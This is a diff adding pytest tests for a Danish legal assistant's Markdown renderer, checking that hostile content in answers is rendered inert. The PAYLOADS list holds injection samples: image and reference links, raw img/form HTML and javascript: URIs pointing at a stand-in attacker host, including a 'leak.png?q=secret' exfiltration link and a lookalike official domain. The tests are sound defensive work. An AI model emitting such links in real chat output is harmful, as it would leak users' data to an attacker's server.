@@ -174,3 +174,81 @@ def test_a_zip_bomb_part_is_refused_by_its_ratio(tmp_path):
         archive.writestr("word/media/padding.bin", b"\0" * (8 * 1024 * 1024))  # ~1000x
     with pytest.raises(LoadError, match="zip bomb"):
         load_file(path, tmp_path, limits=LoadLimits(docx_max_xml_mb=40))
+
+
+# --- 3 and 4. one inert renderer ------------------------------------------------------------------
+
+EVIL = "http://evil.example.test"
+OFFICIAL = "https://www.retsinformation.dk/eli/lta/2022/1396"
+
+PAYLOADS = [
+    f"Svar [1].\n\n![x][r]\n\n[r]: {EVIL}/leak.png?q=secret",
+    f"![x][r] [1]\n\n[r]: <{EVIL}/leak.png> 'title'",
+    f"[klik] [1]\n\n[klik]: {EVIL}/p",  # shortcut reference
+    f"[klik][] [1]\n\n[klik]: {EVIL}/p",  # collapsed reference
+    f"[a [b] c]({EVIL}/nested) [1]",
+    f"![a [b] c]({EVIL}/nested.png) [1]",
+    f"[linje\nskift]({EVIL}/break) [1]",
+    f"![linje\nskift]({EVIL}/break.png) [1]",
+    f"[x]({EVIL}/t 'quoted title') [1]",
+    f"[x]({EVIL}/t (paren title)) [1]",
+    f'[x]({EVIL}/t "double") [1]',
+    f"se {EVIL}/bare og www.evil.example.test og jens@kommune.dk [1]",
+    f"<{EVIL}/autolink> <mailto:jens@kommune.dk> [1]",
+    f"<img src={EVIL}/a.png> <form action={EVIL}/f><input name=q></form> [1]",
+    f"&lt;img src={EVIL}/entity.png&gt; [1]",
+    f"> citat med [link]({EVIL}/q) og ![b]({EVIL}/q.png) [1]",
+    f"- punkt [link]({EVIL}/l)\n- ![b]({EVIL}/l.png) [1]",
+    f"| a | b |\n|---|---|\n| [x]({EVIL}/t) | ![y]({EVIL}/t.png) |",
+    f"```\n<img src={EVIL}/code.png>\n```\n[1]",
+    "[x](javascript:alert(1)) [y](data:text/html,hi) [z](/files/markedsdialog.md) [1]",
+    f"Se [1].\n\n[1]: {EVIL}/planted-marker",
+    f"[official lookalike]({OFFICIAL}.evil.example.test/x) [1]",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_every_payload_reaches_the_chat_inert(payload):
+    from assistant.web.markdown import inert_markdown, is_inert
+
+    shown = inert_markdown(payload, [OFFICIAL], {1})
+    assert is_inert(shown, [OFFICIAL]), shown
+    # Parsed the way the browser's Markdown is: the only link left is the marker's.
+    from markdown_it import MarkdownIt
+
+    tokens = [t for block in MarkdownIt("commonmark", {"html": True}).enable("table").parse(shown)
+              for t in [block, *(block.children or [])]]
+    hrefs = [t.attrGet("href") for t in tokens if t.type == "link_open"]
+    assert set(hrefs) <= {"#source-1"}, shown
+    assert not [t for t in tokens if t.type in {"image", "html_inline", "html_block"}], shown
+    assert f"]({EVIL}" not in shown and f"({EVIL}" not in shown, shown
+
+
+def test_official_links_and_markers_stay_live_and_structure_is_kept():
+    from assistant.web.markdown import inert_markdown
+
+    text = (f"**Ja.** Ordregiveren må holde markedsdialog [1], se [loven]({OFFICIAL}).\n\n"
+            "- tærsklen er 5.538.000 kr.\n- fristen er 2026-12-07\n\n> § 39, stk. 2 [2]")
+    shown = inert_markdown(text, [OFFICIAL], {1, 2})
+    assert f"[loven]({OFFICIAL})" in shown
+    assert "[\\[1\\]](#source-1)" in shown and "[\\[2\\]](#source-2)" in shown
+    assert "**Ja.**" in shown and "\n- tærsklen er 5.538.000 kr." in shown and "\n> § 39, stk. 2" in shown
+    # An official URL is live only for the citations that carry it.
+    assert f"]({OFFICIAL})" not in inert_markdown(text, [], {1, 2})
+
+
+def test_every_mode_goes_through_the_one_renderer():
+    from assistant.answer.types import Answer, Citation
+    from assistant.web.render import render_answer
+
+    hostile = f"<form action={EVIL}/f><input name=q></form> <img src={EVIL}/a.png>"
+    for mode, abstained, text in (
+            ("extractive", True, f"Kilderne dækker ikke spørgsmålet.\n\nDe nærmeste kilder er:\n- {hostile} – Orlov"),
+            ("extractive", False, f"*Titel* [1]\n> citat med [link]({EVIL}/q) ![b][r]\n\n[r]: {EVIL}/r.png"),
+            ("llm", False, f"Svar ![x][r] [1].\n\n[r]: {EVIL}/leak.png")):
+        answer = Answer(question="q", answer=text, abstained=abstained, mode=mode,
+                        citations=[Citation(n=1, source="a.md", title=hostile, page=0, section="", quote="q",
+                                            score=1.0)])
+        shown = render_answer(answer, "da")
+        assert "<form" not in shown and "<img" not in shown, (mode, shown)
+        assert f"]({EVIL}" not in shown and f"({EVIL}" not in shown, (mode, shown)
